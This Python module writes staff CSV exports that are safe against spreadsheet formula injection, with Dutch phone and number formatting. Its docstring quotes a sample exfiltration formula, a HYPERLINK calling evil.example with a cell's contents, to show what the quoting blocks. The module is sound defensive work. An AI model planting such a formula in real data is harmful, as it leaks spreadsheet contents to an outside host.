"""CSV downloads for staff, safe to open in a spreadsheet: no cell can start a formula.

Text in the exports comes in through public forms, so a name like ``=HYPERLINK("http://evil.example/?x="&A1)``
must arrive in Excel or LibreOffice as text, never as a formula (CSV injection, OWASP). Every text cell
that begins with ``= + - @``, a tab or a carriage return gets a single quote in front, as OWASP advises;
numbers stay numbers.

Phone numbers are shown the Dutch way, ``06 12345678``: readable, accepted by WhatsApp on a Dutch
phone, and unlike ``+31612345678`` they neither start a formula nor need the quote. The space keeps a
spreadsheet from reading the number as a number (which would drop the leading 0). A number in any
other notation is written as text like every other cell.

Numbers are written as the spreadsheet of the staff member's language reads them, so that they arrive as numbers
that can be summed: the Dutch export separates cells with a semicolon and writes a decimal comma (52,3), as Dutch
Excel expects; the English export uses a comma between cells and a decimal point (52.3). No thousands separators
(a spreadsheet could take 1.234 for a decimal). Times are written as 2026-11-26 13:45 in Dutch time
(formats.spreadsheet_time), which Excel and LibreOffice read as a date and time in either language.
"""

from __future__ import annotations

import csv
import io
import re

from babel.numbers import format_decimal

# OWASP's list, plus a line feed, which some spreadsheet programs also skip before a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
DUTCH_MOBILE_RE = re.compile(r"^\+316([0-9]{8})$")
# Per language: the cell separator and the locale whose decimal sign a spreadsheet in that language expects.
SEPARATORS = {"nl": ";", "en": ","}
PLAIN_NUMBER = "0.0#########"  # a float keeps at least one decimal: 0,0 and 52,3


def safe_cell(value):
    """Return value as a spreadsheet reads it literally: text that could start a formula gets a quote first."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def phone_cell(phone: str | None) -> str:
    """Return a mobile number as 06 12345678 (stored as +316xxxxxxxx); any other notation as a safe cell."""
    match = DUTCH_MOBILE_RE.match((phone or "").strip())
    if match:
        return "06 " + match.group(1)
    return safe_cell(phone)


def number_cell(value, lang: str = "nl"):
    """Return a number as a spreadsheet in lang reads it (52,3 in Dutch, 52.3 in English); anything else safe."""
    cell = safe_cell(value)
    if isinstance(cell, float):
        return format_decimal(cell, PLAIN_NUMBER, locale=lang if lang in SEPARATORS else "nl")
    return cell


def csv_text(header: list[str], rows, lang: str = "nl") -> str:
    """Return a table with a byte-order mark (for Excel), every cell made safe, numbers and separator as a
    spreadsheet in lang reads them (Dutch: semicolons and decimal commas)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=SEPARATORS.get(lang, ";"))
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([number_cell(value, lang) for value in row])
    return "\ufeff" + buffer.getvalue()
